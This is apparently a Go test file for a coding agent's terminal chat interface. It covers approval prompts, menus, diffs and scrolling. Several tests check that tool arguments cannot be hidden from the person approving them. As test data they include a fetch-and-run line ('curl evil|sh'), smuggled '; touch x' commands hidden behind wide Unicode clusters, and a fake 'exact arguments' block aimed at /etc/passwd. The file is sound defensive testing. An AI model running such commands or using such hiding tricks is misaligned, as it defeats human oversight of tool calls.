package chat

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"
	"charm.land/lipgloss/v2"
	"github.com/charmbracelet/x/ansi"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/everturn/everturn/journal"
	"github.com/everturn/everturn/starter/internal/ui/termsafe"
	"github.com/everturn/everturn/workflows/turn"
)

func TestWrappedQuotesKeepTheirBar(t *testing.T) {
	text := "> " + strings.Repeat("quoted words ", 20) + "\n> > " + strings.Repeat("deeper words ", 20)
	for _, width := range []int{30, 60, 79} {
		for _, line := range newTheme(true, true).render(text, width) {
			if line = ansi.Strip(line); line != "" {
				assert.True(t, strings.HasPrefix(line, "│"), "%d: %q", width, line)
			}
			assert.LessOrEqual(t, ansi.StringWidth(line), width)
		}
	}
}

// asksTwo shows two approvals of the same tool.
func (s *stage) asksTwo() {
	for _, id := range []string{"1.0", "1.1"} {
		s.asksFor(pendingRequest{Request: turn.Request{ID: id, Kind: turn.RequestApproval, Tool: "x",
			Arguments: `{"id":"` + id + `"}`}, turn: "t"})
	}
}

func TestAlwaysThisToolAlsoAllowsItsOtherCalls(t *testing.T) {
	s := newStage(t, 80, 24)
	s.covered = []string{"1.1"}
	s.asksTwo()
	s.press(tab)
	s.types("t")
	s.until("it is sent", func() bool { return len(s.decisions) == 1 })
	assert.True(t, s.decisions[0].Covered)
	assert.True(t, s.pending[1].sent, "the client allows it, too")
}

func TestAlwaysThisCallAllowsNoOtherArguments(t *testing.T) {
	s := newStage(t, 80, 24)
	s.asksTwo()
	s.press(tab)
	s.types("a")
	s.until("one is sent", func() bool { return len(s.decisions) == 1 })
	assert.False(t, s.pending[1].sent)
}

func TestAnApprovalGetsTheKeysAfterTheTextIsSent(t *testing.T) {
	s := newStage(t, 80, 24)
	s.types("hello")
	s.asksTwo()
	s.pass()
	s.types("y")
	assert.Empty(t, s.decisions, "the user is typing")
	s.press(enter)
	s.pass()
	s.pass()
	assert.Contains(t, s.bottom(), "y allow")
	s.types("y")
	s.until("both are sent", func() bool { return len(s.decisions) == 1 && len(s.messages) == 1 })
	assert.Equal(t, "helloy", s.messages[0].Message.Text)
}

func TestTheStatusFollowsAReason(t *testing.T) {
	s := newStage(t, 80, 24)
	s.begin("m1", "Write.")
	c := callOf("1.0", "{}")
	s.settle(s.infer(nil), "", c)
	s.asks(approvalOf(c, 1))
	s.shows("Allow mcp/disk/write?")
	s.press(tab)
	s.types("r")
	assert.Contains(t, s.bottom(), "type the reason")
	assert.Contains(t, s.bottom(), "enter deny the call · esc go back")
	assert.NotContains(t, s.bottom(), "add to the turn")
	s.press(esc)
	assert.NotContains(t, s.bottom(), "type the reason")
	assert.Contains(t, s.bottom(), "y allow")
	s.types("c")
	assert.NotContains(t, s.all(), "1.0", "the call has no commands to allow")
	s.types("r")
	s.says("not now")
	assert.NotContains(t, s.bottom(), "type the reason")
	assert.Contains(t, s.bottom(), "decided; waiting for the turn")
	assert.Contains(t, s.bottom(), "15 tokens in, 4 out", "the inference before the approval counts")
}

func TestTheStatusFollowsCtrlC(t *testing.T) {
	s := newStage(t, 80, 24)
	s.begin("m1", "Slowly.")
	s.shows("answering")
	s.press(ctrlC)
	assert.Contains(t, s.bottom(), "press Ctrl-C again")
	s.press(ctrlC)
	assert.NotContains(t, s.bottom(), "press Ctrl-C again")
	assert.Contains(t, s.bottom(), "stopping")
	s.finish(turn.StateCancelled, turn.FinishCancelled, "")
	s.shows("ready")
	assert.NotContains(t, s.bottom(), "Ctrl-C")
}

func TestModelNamesTheModel(t *testing.T) {
	s := newStage(t, 80, 24)
	s.says("/model")
	s.prints("model: scripted; new turns use scripted")
	s.whole("m1", "one", "First.")
	s.prints("1 step")
	s.says("/model")
	s.prints("model: m; new turns use scripted")
}

func TestCallsFoldAndOpen(t *testing.T) {
	s := newStage(t, 80, 24)
	s.hears(turn.EventToolCallStarted, turn.CallEvent{CallID: "1.0", Tool: "x",
		Arguments: `{"path":"f","old_string":"a","new_string":"b"}`})
	s.hears(turn.EventToolCallCompleted, turn.CallEvent{CallID: "1.0", Tool: "x", Outcome: turn.OutcomeOK,
		Preview: "the\x1b[2J result"})
	assert.NotContains(t, s.all(), "the[2J result")
	s.press(ctrlO)
	assert.Contains(t, s.all(), "│ -a")
	assert.Contains(t, s.all(), "│ +b")
	assert.Contains(t, s.all(), "│ the[2J result")
	s.press(ctrlO)
	assert.NotContains(t, s.all(), "the[2J result")
	s.take(tea.MouseClickMsg{Y: 1})
	assert.Contains(t, s.all(), "the[2J result")
}

// A change of a file is shown without a key: a new file in the approval and after the call, and an edit with the lines
// around it, as the file tool reports them. What is long is folded.
func TestChangesOfFilesAreShown(t *testing.T) {
	s := newStage(t, 80, 30)
	s.begin("m1", "Write.")
	content := strings.Repeat(`a line of the new file\n`, 40) + "its end"
	write, edit := callOf("1.0", `{"path":"new.txt","content":"`+content+`"}`),
		callOf("2.0", `{"path":"old.txt","old_string":"two","new_string":"2"}`)
	write.Tool, edit.Tool = "local/write_file", "local/edit_file"
	s.settle(s.infer(nil), "", write)
	s.asks(approvalOf(write, 1))
	s.shows("│ +a line of the new file")
	s.rules(turn.Decision{ID: "1.0", Status: turn.StatusAllowed, Allowed: true, ArgumentsHash: journal.HashOf([]byte(write.Arguments))})
	s.call(write, turn.OutcomeOK, "wrote new.txt: 927 bytes")
	s.prints("│ +a line of the new file")
	s.prints("│ … 21 more rows; Ctrl-O")
	assert.NotContains(t, s.all(), "+its end")
	attempt := s.infer([]turn.CallOutcome{{CallID: "1.0"}})
	s.settle(attempt, "", edit)
	s.call(edit, turn.OutcomeOK, "edited old.txt\n@@ -7,3 +7,3 @@\n one\n-two\n+2\n three")
	s.prints("│ -two")
	s.finish(turn.StateCompleted, turn.FinishAnswered, "")
	s.shows("ready")
	assert.Contains(t, s.all(), "│  three")
	s.press(ctrlO)
	assert.Contains(t, s.all(), "│ +its end")

	s.enter("s", 80, 30)
	s.prints("│ three")
	s.prints("│ … 21 more rows; Ctrl-O")
}

func TestAFailedChangeIsNotShownAsADiff(t *testing.T) {
	s := newStage(t, 80, 24)
	s.begin("m1", "Write.")
	edit := callOf("1.0", `{"path":"old.txt","old_string":"two","new_string":"2"}`)
	s.settle(s.infer(nil), "", edit)
	s.call(edit, turn.OutcomeError, "old.txt does not contain old_string")
	s.prints("old.txt does not contain")
	assert.NotContains(t, s.all(), "│ -two")
}

func TestMenusComplete(t *testing.T) {
	s := newStage(t, 60, 15)
	s.types("/se")
	assert.Contains(t, s.bottom(), "> /sessions")
	s.press(tab)
	assert.Equal(t, "/sessions ", s.input.Value())
	s.press(ctrlU)
	s.types("/he")
	s.press(enter)
	s.prints("list the commands and keys")
	s.types("look at @mainte")
	s.shows("> @main_test.go")
	s.press(enter)
	assert.Equal(t, "look at @main_test.go ", s.input.Value())
	s.types("/he")
	assert.NotContains(t, s.bottom(), "/help", "a command stands at the beginning")
}

func TestTheModelOfLaterTurnsIsChanged(t *testing.T) {
	s := newStage(t, 80, 15)
	s.o.CheckModel = func(name string) error {
		if name == "none" {
			return errors.New("no such model")
		}
		return nil
	}
	for line, want := range map[string]string{"/model none": "no such model", "/model other": "new turns use other",
		"/model": "model: scripted"} {
		s.types(line)
		s.press(enter)
		s.prints(want)
	}
	assert.Equal(t, "other", s.o.Requested)
	s.types("/model default")
	s.press(enter)
	s.prints("(the agent's)")
	assert.Empty(t, s.o.Requested)
}

func TestAModelIsChosenFromTheMenu(t *testing.T) {
	s := newStage(t, 80, 24)
	s.o.CheckModel = func(string) error { return nil }
	s.o.Models = func() []ModelChoice {
		return []ModelChoice{{"openai:large", "$10 in"}, {"openai:large-mini", ""}, {"other:small", "\x1b[2Jcheap"}}
	}
	s.says("/model")
	assert.Contains(t, s.bottom(), "> default")
	assert.Contains(t, s.bottom(), "  openai:large      $10 in")
	assert.Contains(t, s.bottom(), "  other:small       [2Jcheap")
	s.press(down, down, down, enter)
	assert.Equal(t, "other:small", s.o.Requested)
	assert.Empty(t, s.input.Value())
	s.says("/model large")
	assert.Equal(t, "openai:large", s.o.Requested, "a name that is complete comes first")
	s.types("/mo")
	s.press(enter)
	assert.Contains(t, s.bottom(), "openai:large-mini", "the command is completed with its arguments")
	s.press(esc)
	assert.Equal(t, "openai:large", s.o.Requested)
}

func TestASessionIsChosenFromTheMenu(t *testing.T) {
	s := newStage(t, 100, 24)
	s.whole("m1", "The first question", "First.")
	s.prints("1 step")
	fork := func(id string) {
		_, err := s.journal.Fork(t.Context(), journal.ForkInput{Session: "s", At: 2, ID: id, Time: s.story.now()})
		require.NoError(t, err)
	}
	fork("older")
	fork("newer")
	s.says("/sessions")
	s.shows("> 1 The first question")
	assert.Contains(t, s.bottom(), "· newer")
	s.press(down, enter)
	s.until("it goes there", func() bool { return s.session == "older" })
	s.says("/sessions 1")
	s.until("it goes there", func() bool { return s.session == "newer" })

	s.enter("s", 100, 24)
	s.says("/sessions 2")
	s.until("it goes there, without a list", func() bool { return s.session == "older" })
	s.says("/sessions 9")
	s.prints(`the journal has no session "9"`)
}

func TestAForkPointIsChosenFromTheMenu(t *testing.T) {
	s := newStage(t, 80, 24)
	for i, asked := range []string{"Read 3 files.", "Change it.", "Test it."} {
		s.whole(fmt.Sprint("m", i), asked, "Done.")
	}
	s.begin("m4", "Go on.")
	s.prints("» Go on.")
	s.types("/fo")
	s.press(tab)
	s.shows("> 6 after: Test it. 4 after: Change it. 2 after: Read 3 files.")
	assert.NotContains(t, s.bottom(), "Go on.", "the turn is running")
	s.types("change")
	s.press(enter)
	s.prints("forked s at message 4")
	s.until("it goes there", func() bool { return s.session != "s" })
	s.types("/fork ")
	s.shows("> 4 after: Change it. 2 after: Read 3 files.")
	s.types("3")
	s.press(enter)
	s.prints("at message 3")
	s.says("/fork 9")
	s.prints("message 9 does not exist")
}

func TestTheConversationScrolls(t *testing.T) {
	s := newStage(t, 60, 15)
	s.whole("m1", "one", "First.\n\n"+strings.Repeat("More of it.\n\n", 40)+"Last.")
	s.shows("Last.")
	for range 20 {
		s.press(pgUp)
	}
	s.shows("First.")
	assert.Contains(t, s.bottom(), "more below")
	s.begin("m2", "two")
	s.prints("» two")
	assert.Contains(t, s.live(), "First.", "new text does not move what the user reads")
	for range 100 {
		s.take(tea.MouseWheelMsg{Button: tea.MouseWheelDown})
	}
	s.shows("» two")
	assert.NotContains(t, s.bottom(), "more below")
}

func TestADiffCannotPassForTheExactArguments(t *testing.T) {
	s := newStage(t, 80, 24)
	s.asksFor(pendingRequest{Request: turn.Request{ID: "1.0", Kind: turn.RequestApproval, Tool: "x",
		Arguments: `{"path":"/etc/passwd","old_string":"a","new_string":"a\nexact arguments:\n{\"path\":\"notes.txt\"}"}`},
		turn: "t"})
	assert.Contains(t, s.bottom(), `│ +{"path":"notes.txt"}`)
	assert.Equal(t, 1, strings.Count(s.bottom(), "\nexact arguments:"))
	assert.Contains(t, s.bottom(), `{"path":"/etc/passwd"`)
}

// Terminals disagree about the width of some characters. Whatever they count, no row is longer than the screen, because
// the end of such a row would be cut, and the call allowed without it.
func TestEveryCharacterOfTheArgumentsIsOnTheScreen(t *testing.T) {
	for _, text := range []string{
		strings.Repeat("\U0001F1E6.", 33) + strings.Repeat("x", 34) + "; curl evil|sh",
		strings.Repeat("\u26a0\ufe0f", 80) + "end", strings.Repeat("\u4e16", 150) + "end",
	} {
		lines := breakText(text, 100)
		assert.Equal(t, text, strings.Join(lines, ""))
		for _, line := range lines {
			assert.LessOrEqual(t, columns(line), 100)
		}
	}
}

// The renderer of the screen drops a cell that is wider than the window, and all characters of the grapheme cluster in
// it.
func TestNoClusterOfTheArgumentsVanishes(t *testing.T) {
	for _, hiding := range []string{
		strings.Repeat("\u0d4e", 250) + "; touch x",
		strings.Repeat("\U000111c2", 100) + "; touch x",
		"a" + strings.Repeat("\u0d4e", 100) + "\\n",
		"\U0001f44d" + strings.Repeat("\U0001f3fd", 60) + "end",
		strings.Repeat("\u1100", 90) + "end",
		strings.Repeat("\u0915\u094d", 90) + "end",
		strings.Repeat("\U0001f44d\u200d", 50) + "end",
		strings.Repeat("\U0001f1e6", 81) + "end",
		"e" + strings.Repeat("\u0301", 200) + "; end",
	} {
		for _, width := range []int{18, 20, 80} {
			s := newStage(t, width, 200)
			arguments := `{"content":"echo safe ` + hiding + `"}`
			s.asksFor(pendingRequest{Request: turn.Request{ID: "1.0", Kind: turn.RequestApproval, Tool: "x",
				Arguments: arguments}, turn: "t"})
			view := s.Model.View().Content
			screen := lipgloss.NewCanvas(width, 200).Compose(lipgloss.NewLayer(view)).Render()
			bare := func(text string) string { return strings.Join(strings.Fields(ansi.Strip(text)), "") }
			assert.True(t, strings.Contains(bare(screen), bare(termsafe.Visible(arguments))), "%d columns: %+q", width, hiding)
		}
	}
}
